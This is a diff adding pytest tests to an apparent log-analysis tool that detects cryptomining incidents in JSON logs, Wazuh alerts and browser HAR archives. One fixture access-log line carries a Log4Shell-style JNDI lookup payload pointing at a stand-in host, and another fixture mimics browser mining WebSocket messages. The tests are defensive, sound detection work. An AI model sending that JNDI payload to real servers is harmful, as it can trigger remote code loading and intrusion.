@@ -157,6 +157,15 @@ def test_a_line_of_an_unknown_program_is_searched_with_its_machine(
     assert incident["entities"]["devices"] == ["web01"]
 
 
+@pytest.mark.parametrize(
+    "time", ["Infinity", "-inf", "nan", 1e308, "1e999", "9" * 400, 10**400, {}, [], True], ids=lambda one: str(one)[:9]
+)
+def test_a_time_that_is_none_is_none(time: object) -> None:
+    data = json.dumps({"host": "web01", "program": "app", "time": time, "message": MINER[0]}).encode() + b"\n"
+    known = registry.detect(BytesStream(data))
+    assert known is None or read_all(known, data, context=ReadContext(year=2026)).rows == 1
+
+
 @given(st.sampled_from(sorted(CARRIERS)), st.binary(max_size=40), st.integers(0, 900), st.integers(0, 900))
 def test_damaged_carriers_give_rows_or_nothing(carrier: str, noise: bytes, place: int, end: int) -> None:
     whole = CARRIERS[carrier](MINER, "app")
@@ -164,3 +173,54 @@ def test_damaged_carriers_give_rows_or_nothing(carrier: str, noise: bytes, place
     for known in (Wrapped(), UNKNOWN):
         for batch in known.read(BytesStream(data), ReadContext()):
             assert batch.rows >= 0
+
+
+LINE = '198.51.100.7 - - [10/Jan/2026:09:00:00 +0000] "GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1" 200 157 "-" "-"'
+
+
+@pytest.mark.parametrize("own", range(11))
+def test_lines_in_alerts_are_read_beside_what_wazuh_says_itself(own: int) -> None:
+    """Whatever share of the alerts are of its own rules about mining, with and without a line in them."""
+    of_wazuh = [
+        {"timestamp": _iso(place), "rule": {"level": 12, "id": "100200", "groups": ["cryptomining"]},
+         "agent": {"name": "srv1"}, **({"full_log": LINE} if place % 2 else {})}
+        for place in range(own)
+    ]  # fmt: skip
+    others = [
+        {"timestamp": _iso(place), "rule": {"level": 3, "id": "31101"}, "agent": {"name": "web01"}, "full_log": LINE}
+        for place in range(10 - own)
+    ]
+    data = b"".join(json.dumps(one).encode() + b"\n" for one in of_wazuh + others)
+    known = registry.detect(BytesStream(data))
+    assert known is not None
+    found = read_all(known, data, context=ReadContext(year=2026))
+    assert len(found.rows_of("alert")) == own
+    assert len(found.rows_of("http")) == 10 - own + own // 2
+    assert sum(batch.unread for batch in found.batches) == 0
+
+
+@pytest.mark.parametrize("first", [0, 1], ids=["socket first", "a big page first"])
+@pytest.mark.parametrize("answered", [True, False])
+def test_a_browsers_archive_tells_what_was_asked_and_said(tmp_path: Path, answered: bool, first: int) -> None:
+    """Requests are of whoever browsed, to the hosts in them; mining on a WebSocket is the browser's."""
+    asked = {"method": "GET", "url": "wss://pool.example.org/proxy", "httpVersion": "http/1.1",
+             "headers": [{"name": "User-Agent", "value": "ExampleBrowser/1"}]}  # fmt: skip
+    said = [{"type": "send", "time": 1.0, "opcode": 1, "data": json.dumps({"type": "auth", "params": {"site_key": "a"}})},
+            {"type": "receive", "time": 1.1, "opcode": 1,
+             "data": json.dumps({"type": "job", "params": {"job_id": "1", "blob": "06" * 76, "target": "ffffff00"}})}]  # fmt: skip
+    socket = {"startedDateTime": _iso(0), "time": 3.5, "request": asked, "response": {"status": 101},
+              "serverIPAddress": "203.0.113.50", "_webSocketMessages": said if answered else said[:1]}  # fmt: skip
+    page = {"startedDateTime": _iso(1), "time": 3.5, "request": {**asked, "url": "https://www.example.org/"},
+            "response": {"status": 200, "content": {"size": 9 << 20, "text": "x" * (2 << 20)}}}  # fmt: skip
+    file = tmp_path / "a.har"
+    file.write_text(
+        json.dumps({"log": {"version": "1.2", "pages": [], "entries": [socket, page][:: -1 if first else 1]}})
+    )
+    result = CliRunner().invoke(cli, ["analyze", str(file), "--format", "json"], standalone_mode=False)
+    document = json.loads(result.stdout)
+    (incident,) = document["incidents"]
+    rules = {finding["rule"] for finding in incident["findings"]}
+    assert incident["entities"]["devices"] == ["browser"]
+    assert "203.0.113.50" in incident["entities"]["remotes"]
+    assert "mining_message_unanswered" not in rules if answered else "mining_message_unanswered" in rules
+    assert (document["coverage"]["records"], document["coverage"]["unread"]) == (2, 0)
